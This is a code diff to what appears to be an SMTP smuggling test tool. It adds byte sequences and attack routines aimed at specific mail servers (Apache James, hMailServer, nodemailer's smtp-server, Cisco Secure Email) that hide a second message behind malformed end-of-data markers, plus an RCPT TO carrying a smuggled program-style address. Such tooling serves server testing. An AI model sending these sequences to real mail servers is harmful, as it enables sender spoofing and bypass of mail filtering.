@@ -29,6 +29,8 @@ SHAPES: dict[str, tuple[bytes, str]] = {
     "cr-dot-crlf": (b"\r.\r\n", "Cisco Secure Email, which made CRLF of it"),
     "crcrlf-dot-crcrlf": (b"\r\r\n.\r\r\n", "servers that drop a CR before CRLF"),
     "nul-before-dot": (b"\r\n\0.\r\n", "SEC Consult 2023: servers that drop NUL"),
+    "crlf-dot-octet-lf": (b"\r\n.x\n", "Apache James before 3.7.5: any line of a dot and two octets"),
+    "lf-dot-dot-lf": (b"\n..\n", "Apache James before 3.7.5"),
     "nul-behind-dot": (b"\r\n.\0\r\n", "smtp_smuggling_checker: servers that drop NUL"),
 }
 
@@ -72,6 +74,29 @@ def smuggling_at_start(attack: Attack) -> None:
     connection.put(EVIL)
 
 
+@technique("smuggling-first-dots", "two dots as a text's first line: nodemailer's smtp-server", server=LOOSE)
+def smuggling_first_dots(attack: Attack) -> None:
+    for dots in (b"..", b"....."):
+        connection = attack.text()
+        for part in (dots[:1], dots[1:], b"\r\n", EVIL):
+            connection.put(part)
+            attack.wait(0.02)
+        connection.put(b"more text\r\n.\r\n")
+
+
+@technique(
+    "smuggling-long-line", "a dot and CRLF behind 100,000 octets without a line's end: hMailServer", server=LOOSE
+)
+def smuggling_long_line(attack: Attack) -> None:
+    connection = attack.text()
+    for _ in range(100):
+        connection.put(b"a" * 1010)
+        connection.read()
+    for part in (b".\r\n", EVIL, b"more text\r\n.\r\n"):
+        attack.wait(0.05)
+        connection.put(part)
+
+
 @technique("data-lone-lf", "DATA ended by LF, then a dot and its line: was there a text at all?", server=LOOSE)
 def data_lone_lf(attack: Attack) -> None:
     connection = attack.mail()
@@ -92,6 +117,25 @@ def smuggling_seven_bits(attack: Attack) -> None:
         connection = attack.text()
         connection.put(b"Subject: one\r\n\r\nhello" + end + EVIL)
         connection.put(b"more text\r\n.\r\n")
+
+
+@technique(
+    "seven-bits-commands",
+    "BODY=7BIT with an eighth bit in it, and a pipe in an address, where an earlier MAIL has said 7BIT",
+    server=Personality(seven_bits=True),
+)
+def seven_bits_commands(attack: Attack) -> None:
+    attack.forbidden += [b"RCPT TO:<\xfc"]
+    connection = attack.session()
+    connection.say(b"MAIL FROM:<evil@example.net> BODY=7BIT\r\n")
+    connection.say(b"RCPT TO:<\xfcprogram>\r\n")
+    connection.say(b"RSET\r\n")
+    connection.say(b"MAIL FROM:<evil@example.net> BODY=\xb7BIT\r\n")
+    for line in (b"RCPT TO:<bob@example.com>\r\n", b"DATA\r\n"):
+        connection.say(line)
+    connection.put(b"Subject: one\r\n\r\nhello\r\n\xae\r\n" + EVIL)
+    connection.put(b"more text\r\n.\r\n")
+    connection.read()
 
 
 @technique(
